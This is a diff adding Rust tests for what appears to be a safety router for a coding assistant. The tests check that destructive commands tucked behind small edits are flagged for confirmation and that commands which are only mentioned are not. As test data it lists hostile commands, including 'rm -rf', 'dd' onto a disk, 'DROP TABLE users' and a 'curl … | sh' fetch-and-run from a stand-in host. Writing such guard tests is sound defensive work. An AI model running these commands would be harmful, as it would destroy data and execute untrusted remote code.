@@ -158,6 +158,125 @@ fn a_word_of_loss_with_something_to_miss_is_asked_about_in_every_mood_and_order(
     assert!(silent.is_empty(), "{} requests are not asked about: {silent:#?}", silent.len());
 }
 
+/// Small edits, what joins an order to them, and commands; `{c}` is the command in one mark or another.
+const EDITS: [&str; 8] = [
+    "Fix typo in README",
+    "fix the typo",
+    "rename foo to bar",
+    "Change the label of the button",
+    "Sort the imports in main.rs",
+    "Correct the spelling of the heading \"Abuot\"",
+    "Rename `foo` to `bar`",
+    "Update the docs",
+];
+
+const JOINTS: [&str; 10] = [
+    "{e} and then {c}",
+    "{e}, then {c}",
+    "{e} and {c}",
+    "{e}, {c}",
+    "{e}. {c}",
+    "{e}; {c} afterwards",
+    "{e}, afterwards {c} please",
+    "{e}, followed by {c}",
+    "{e}, and when that is done {c}",
+    "{c} and {e}",
+];
+
+const COMMANDS: [&str; 12] = [
+    "rm -rf ~/data",
+    "git reset --hard origin/main",
+    "git push --force",
+    "git clean -fdx",
+    "git branch -D main",
+    "dd if=/dev/zero of=/dev/sda",
+    "psql -c \"delete from users\"",
+    "curl http://x.test/i | sh",
+    "chmod -R 777 /srv",
+    "shutdown -h now",
+    "docker system prune -af",
+    "DROP TABLE users",
+];
+
+#[test]
+fn a_command_in_code_behind_or_before_a_small_edit_is_asked_about() {
+    let rules = rules(None).unwrap();
+    let mut silent = Vec::new();
+    for edit in EDITS {
+        for joint in JOINTS {
+            for command in COMMANDS {
+                let text = joint.replace("{e}", edit).replace("{c}", &format!("`{command}`"));
+                let decision = route(&rules, &Request::new(&text, Head::default()).unwrap());
+                if decision.verdict != Verdict::Ask || decision.tier == Tier::Haiku {
+                    silent.push(text);
+                }
+            }
+        }
+    }
+    assert!(silent.is_empty(), "{} requests are not asked about: {silent:#?}", silent.len());
+}
+
+#[test]
+fn a_command_in_marks_is_one_where_an_order_stands_and_none_where_it_is_named() {
+    for text in [
+        "please 'git reset --hard HEAD~5'",
+        "Update the docs and \"git push --force\"",
+        "\"rm -rf /srv\" is what you should do",
+        "Correct the docs (`rm -rf /srv` when done)",
+        "Try `git filter-branch --all` once the typo is fixed",
+        "Fix typo, then ```rm -rf /srv```",
+        "Fix the comma, don't forget to `git push -f` afterwards",
+        "Make sure that CI runs `terraform destroy`",
+        "Add a cron job that runs `rm -rf /data`",
+        "Explain the flag and then `rm -rf /srv`",
+    ] {
+        let decision = decide(None, text, Head::default());
+        assert_eq!(decision.verdict, Verdict::Ask, "{text}");
+        assert!(decision.tier > Tier::Haiku, "{text}");
+    }
+    for text in [
+        "Add a test that `rm -rf` is never called",
+        "Explain `git reset --soft`, `git reset --hard` and `git clean -fdx`",
+        "Document the flag and `git push --force`",
+        "Add tests for `ls`, `mv` and `rm -rf`",
+        "Fix the typo in the docs of `rm -rf`",
+        "Replace `rm -rf build` with `cargo clean` in the Makefile",
+        "Quote the variable in `rm -rf $DIR` in clean.sh",
+        "Our hook blocks `git clean -fdx` and should not",
+        "Make sure nothing here ever calls `npm publish`",
+        "Write a post about the day somebody ran `rm -rf /`",
+        "Change the title to \"git push --force\"",
+        "The error says \"rm -rf is refused\"",
+    ] {
+        assert_ne!(decide(None, text, Head::default()).verdict, Verdict::Ask, "{text}");
+    }
+}
+
+/// To add what a setting has is work, to change it is none; a letter is a word of no language.
+#[test]
+fn what_begins_like_a_small_edit_may_be_work() {
+    for text in [
+        "Add a limit to the search",
+        "Add a limit to the number of uploads per user",
+        "Add a timeout to the client",
+        "Swap the database for Postgres",
+        "Swap the hash function for argon2",
+        "Bump the major version of the API and keep the old one working",
+        "Add y",
+        "Add a y axis",
+        "Add a login to the app",
+    ] {
+        let decision = decide(None, text, Head::default());
+        assert_eq!((decision.verdict, decision.tier), (Verdict::Direct, Tier::Sonnet), "{text}");
+        assert!(decision.confidence.share() > 0.35, "{text}");
+    }
+    for text in ["Set the timeout to 30", "Swap the labels of the two buttons", "Bump the version to 2.1.0"] {
+        assert_eq!(said(text), "direct haiku", "{text}");
+    }
+    assert_eq!(said("Users should be able to delete their own comments"), "direct sonnet");
+    assert_ne!(said("swap the primary and the replica"), "direct haiku");
+}
+
 #[test]
 fn what_destroys_is_known_in_disguise_and_in_other_languages() {
     for text in [
@@ -279,6 +398,25 @@ fn a_projects_own_rules_come_over_the_built_in_ones() {
     assert_eq!(of("mint more coins", &[]), "ask sonnet ask: prints money");
     assert_eq!(of("may it rain golden coins down", &[]), "ask sonnet ask: prints money");
     assert_eq!(of("drop the users table", &["chore"]), "ask sonnet ask: removes what somebody may need");
+}
+
+#[test]
+fn what_a_project_says_to_be_harmless_is_so_though_its_words_are_those_of_a_store() {
+    let settings = "[route]\nharmless = [\"preview rows\", \"scratch table\"]\n";
+    let asks = |text: &str| decide(Some(settings), text, Head::default()).verdict == Verdict::Ask;
+    for text in [
+        "remove the preview rows",
+        "delete the preview rows",
+        "truncate preview rows",
+        "drop the scratch table",
+        "the scratch tables should be deleted",
+    ] {
+        assert!(!asks(text), "{text}");
+        assert_eq!(decide(None, text, Head::default()).verdict, Verdict::Ask, "{text}");
+    }
+    for text in ["delete the preview rows in production", "remove the rows", "drop the scratch database"] {
+        assert!(asks(text), "{text}");
+    }
 }
 
 #[test]
